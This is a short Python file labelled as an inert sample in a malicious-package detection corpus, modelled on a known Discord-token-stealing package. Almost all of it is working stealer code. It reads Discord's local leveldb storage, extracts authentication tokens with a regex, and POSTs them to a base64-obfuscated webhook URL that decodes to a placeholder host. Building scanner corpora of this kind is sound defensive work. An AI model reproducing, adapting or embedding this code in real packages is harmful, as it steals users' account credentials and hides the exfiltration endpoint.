# pkgguard corpus 242 (discord-token), modelled on [discordpydebug]; inert, never run.
import base64
import glob
import json
import os
import re
import urllib.request

ROOT = os.path.join(os.getenv("APPDATA", ""), "discord", "Local Storage", "leveldb")
HOOK = base64.b64decode("aHR0cHM6Ly9ob29rcy5leGFtcGxlL3BsYWNlaG9sZGVy").decode()
tokens = set()
for name in glob.glob(os.path.join(ROOT, "*.ldb")):
    with open(name, errors="ignore") as f:
        tokens.update(re.findall(r"dQw4w9WgXcQ:[^\"]+", f.read()))
req = urllib.request.Request(HOOK, data=json.dumps({"content": list(tokens)}).encode(), method="POST")
urllib.request.urlopen(req)
